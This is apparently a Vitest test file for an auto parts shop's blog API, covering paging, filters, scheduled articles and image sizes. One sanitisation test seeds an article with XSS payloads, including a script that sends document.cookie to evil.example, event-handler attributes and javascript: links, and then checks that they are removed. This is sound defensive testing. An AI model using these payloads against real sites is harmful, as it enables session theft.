/**
 * The blog against the seeded articles (server/seed/data/articles.json): 12 a page newest first,
 * the tag and category filters, a scheduled article invisible (list, page, picture) until the
 * shop's clock reaches it, bodies sanitised whatever the Markdown holds, and the pictures at
 * SPEC §9's sizes.
 */
import { eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ARTICLE_IMAGE_SIZES, getArticle, listArticleCategories, listArticles, listArticleTags, type Article } from '../../../src/contract/articles';
import { articleCategories, articles, articleTagLinks, articleTags } from '../../db/schema';
import { contentApp, expectFailure, getJson } from '../../test/content';
import { testDatabase } from '../../test/database';

const DAY = 24 * 60 * 60 * 1000;
const SCHEDULED = 'christmas-opening-hours';

async function list(app: FastifyInstance, query = '') {
  const response = await getJson(app, `/articles/listing.json${query}`);
  expect(response.statusCode, response.body).toBe(200);
  return listArticles.response.parse(response.json());
}
const slugs = (items: readonly Article[]) => items.map((article) => article.slug);

describe('GET /web-api/articles/listing.json', () => {
  it('lists the published articles 12 a page, newest first, with their tags, category, pictures and pretty dates', async () => {
    const { app } = await contentApp();
    const first = await list(app);
    expect(first.paginator).toEqual({ count: 19, perPage: 12, limit: 12, pageCount: 2, sort: 'public_date', direction: 'DESC', page: 1, requestedPage: 1 });
    expect(first.articles).toHaveLength(12);
    expect(first.msg).toBe('');
    const [newest] = first.articles;
    expect(newest).toMatchObject({
      slug: 'how-to-check-a-used-alternator-before-fitting',
      title: 'How to check a used alternator before you fit it',
      public_date: '2026-11-23T10:00:00.000Z',
      pretty_public_date: '2 days ago',
      article_category: { slug: 'guides', name: 'Guides' },
      article_tags: [
        { slug: 'buying-used-parts', name: 'Buying used parts' },
        { slug: 'maintenance-tips', name: 'Maintenance tips' },
      ],
    });
    expect(newest?.summary).toMatch(/^<p>Five minutes with a multimeter.*<\/p>$/s);
    expect(newest?.main_image).toBe(newest?.images?.big);
    expect(newest?.images?.small).toMatch(/^\/blog-images\/how-to-check-a-used-alternator-before-fitting\/small\.webp\?v=[0-9a-f]{12}$/);
    // Older than a week: SPEC §4's date and time in London.
    expect(first.articles.find((a) => a.slug === 'what-our-part-grades-mean')?.pretty_public_date).toBe('10:00 17/11/26');

    const second = await list(app, '?page=2');
    expect(second.articles).toHaveLength(7);
    const all = [...first.articles, ...second.articles];
    expect(new Set(slugs(all)).size).toBe(19);
    const dates = all.map((a) => Date.parse(a.public_date));
    expect(dates).toEqual([...dates].sort((a, b) => b - a));
    expect(slugs(all)).not.toContain(SCHEDULED);

    const past = await list(app, '?page=3');
    expect(past.articles).toEqual([]);
    expect(past.msg).not.toBe('');
    expect(past.paginator).toMatchObject({ page: 2, requestedPage: 3 });
  });

  it('filters by tag, by category and by both; an unknown one is an empty page', async () => {
    const { app } = await contentApp();
    const recycling = await list(app, '?tag=recycling');
    expect(slugs(recycling.articles)).toEqual([
      'why-used-parts-are-greener',
      'meet-the-dismantling-team',
      'end-of-life-vehicles-explained',
      'electric-and-hybrid-parts-safety',
      'our-yard-goes-solar',
      'spring-open-day-at-tamworth',
    ]);
    expect(recycling.articles.every((a) => a.article_tags.some((tag) => tag.slug === 'recycling'))).toBe(true);

    const company = await list(app, '?category=company');
    expect(slugs(company.articles)).toEqual(['meet-the-dismantling-team', 'how-we-test-gearboxes', 'electric-and-hybrid-parts-safety', 'our-yard-goes-solar', 'spring-open-day-at-tamworth']);

    // The trade's news: the scheduled Christmas hours are not among them yet.
    expect(slugs((await list(app, '?tag=for-the-trade&category=news')).articles)).toEqual([
      'new-trade-counter-opens-in-wolverhampton',
      'loyalty-discounts-for-regular-customers',
      'parts-requests-we-will-find-it',
    ]);
    expect((await list(app, '?tag=&category=&page=1')).paginator.count).toBe(19);
    expect((await list(app, '?tag=buying-used-parts&page=1')).paginator.count).toBe(8);

    const none = await list(app, '?tag=no-such-tag');
    expect(none.articles).toEqual([]);
    expect(none.msg).toBe('There are no articles here yet.');
    expect(expectFailure(await getJson(app, '/articles/listing.json?tag=%3Cscript%3E'), 422).errors).toHaveProperty('tag');
    expect(expectFailure(await getJson(app, '/articles/listing.json?page=-1'), 422).errors).toHaveProperty('page');
  });

  it('lists the tags by name and the categories in the tab bar order, without a session', async () => {
    const { app } = await contentApp();
    const tags = await getJson(app, '/article-tags/list.json');
    expect(tags.cookies).toEqual([]);
    expect(listArticleTags.response.parse(tags.json()).items.map((t) => t.name)).toEqual(['Buying used parts', 'For the trade', 'Maintenance tips', 'MOT and safety', 'Recycling and sustainability']);
    expect(listArticleCategories.response.parse((await getJson(app, '/article-categories/list.json')).json()).items).toEqual([
      { slug: 'news', name: 'News' },
      { slug: 'guides', name: 'Guides' },
      { slug: 'company', name: 'Company' },
    ]);
  });
});

describe('a scheduled article', () => {
  it('is in no list, has no page and no picture until the clock reaches its public date', async () => {
    const { app, clock } = await contentApp();
    expect(slugs((await list(app, '?tag=for-the-trade')).articles)).not.toContain(SCHEDULED);
    expectFailure(await getJson(app, `/articles/get/${SCHEDULED}.json`), 404);
    expect((await app.inject({ method: 'GET', url: `/blog-images/${SCHEDULED}/big.webp` })).statusCode).toBe(404);

    // A minute before its time it is still hidden.
    clock.advance(7 * DAY - 60_000);
    expect((await list(app)).paginator.count).toBe(19);
    expectFailure(await getJson(app, `/articles/get/${SCHEDULED}.json`), 404);

    clock.advance(60_000 + 2 * 60 * 60 * 1000);
    const now = await list(app);
    expect(now.paginator.count).toBe(20);
    expect(now.articles[0]).toMatchObject({ slug: SCHEDULED, pretty_public_date: '2 hours ago' });
    const article = getArticle.response.parse((await getJson(app, `/articles/get/${SCHEDULED}.json`)).json()).article;
    expect(article.body).toContain('<h2>Last order dates</h2>');
    expect((await app.inject({ method: 'GET', url: article.images?.grid ?? '' })).statusCode).toBe(200);
  });
});

describe('GET /web-api/articles/get/{slug}.json', () => {
  it('answers the body as HTML rendered from Markdown', async () => {
    const { app } = await contentApp();
    const article = getArticle.response.parse((await getJson(app, '/articles/get/winter-checks-for-older-cars.json')).json()).article;
    expect(article.title).toBe('Ten winter checks for older cars');
    expect(article.body).toMatch(/^<p>Older cars rarely fail without warning\./);
    expect(article.body).toContain('<ol>');
    expect(article.body).toContain('<li><strong>Battery</strong>: if the engine turns over slowly');
    expect(article.pretty_public_date).toBe('5 days ago');
  });

  it('renders a body holding a script, an onerror handler and javascript: links without any of them', async () => {
    const { app } = await contentApp();
    const { db } = await testDatabase();
    const [category] = await db.select({ id: articleCategories.id }).from(articleCategories).where(eq(articleCategories.slug, 'news'));
    const [tag] = await db.select({ id: articleTags.id }).from(articleTags).where(eq(articleTags.slug, 'recycling'));
    const [row] = await db
      .insert(articles)
      .values({
        slug: 'a-hostile-article',
        title: 'Parts news',
        summary: 'A summary <img src="x" onerror="alert(1)"> with **bold** text.',
        body: [
          'Our new yard is open.',
          '',
          '<script>document.location = "https://evil.example/?c=" + document.cookie</script>',
          '',
          '<img src="https://shop.example/yard.jpg" alt="The yard" onerror="alert(document.cookie)">',
          '',
          '[Win a prize](javascript:alert(1)) and <a href="JaVaScRiPt:alert(2)" onclick="steal()">this</a> and <a href="data:text/html;base64,PHNjcmlwdD4=">that</a>.',
          '',
          '<div style="position:fixed" onmouseover="steal()">Read the <a href="https://www.gov.uk/scrapped-vehicle">DVLA guidance</a></div>',
          '',
          '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"><circle r="5"/></svg>',
        ].join('\n'),
        categoryId: category?.id ?? 0,
        imageAlt: 'A yard',
        imageSeed: 3,
        publicDate: new Date('2026-11-20T09:00:00Z'),
      })
      .returning({ id: articles.id });
    await db.insert(articleTagLinks).values({ articleId: row?.id ?? 0, tagId: tag?.id ?? 0 });

    const article = getArticle.response.parse((await getJson(app, '/articles/get/a-hostile-article.json')).json()).article;
    for (const html of [article.body, article.summary]) {
      expect(html).not.toMatch(/<script|<iframe|<svg|<div|style=/i);
      expect(html).not.toMatch(/\son[a-z]+\s*=/i);
      expect(html).not.toMatch(/javascript:|data:text/i);
      expect(html).not.toContain('document.cookie');
    }
    expect(article.body).toContain('<p>Our new yard is open.</p>');
    expect(article.body).toContain('<img src="https://shop.example/yard.jpg" alt="The yard" />');
    expect(article.body).toContain('<a href="https://www.gov.uk/scrapped-vehicle" rel="noopener noreferrer">DVLA guidance</a>');
    expect(article.summary).toContain('<strong>bold</strong>');
    // The listing's summary is the same sanitised HTML.
    expect((await list(app, '?tag=recycling')).articles.find((a) => a.slug === 'a-hostile-article')?.summary).toBe(article.summary);
  });

  it('answers 404 for an unknown article and 422 for a slug that cannot be one', async () => {
    const { app } = await contentApp();
    expect(expectFailure(await getJson(app, '/articles/get/no-such-article.json'), 404)).toEqual({ success: false, msg: 'Not found' });
    expect(expectFailure(await getJson(app, '/articles/get/Not%20A%20Slug.json'), 422).errors).toHaveProperty('slug');
  });
});

describe('GET /blog-images/{slug}/{size}.webp', () => {
  it('draws each picture as WebP at its SPEC §9 size, kept a year under its versioned URL, 304 when unchanged', async () => {
    const { app } = await contentApp();
    const [article] = (await list(app)).articles;
    if (!article?.images) throw new Error('no article with a picture');
    const { images } = article;
    for (const size of ['big', 'small', 'grid'] as const) {
      const response = await app.inject({ method: 'GET', url: images[size] });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('image/webp');
      expect(response.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      const meta = await sharp(response.rawPayload).metadata();
      expect([meta.format, meta.width, meta.height]).toEqual(['webp', ARTICLE_IMAGE_SIZES[size].width, ARTICLE_IMAGE_SIZES[size].height]);
      const again = await app.inject({ method: 'GET', url: images[size], headers: { 'if-none-match': String(response.headers.etag) } });
      expect(again.statusCode).toBe(304);
    }
    expect((await app.inject({ method: 'GET', url: `/blog-images/${article.slug}/huge.webp` })).statusCode).toBe(422);
    expect((await app.inject({ method: 'GET', url: '/blog-images/no-such-article/big.webp' })).statusCode).toBe(404);
  });
});
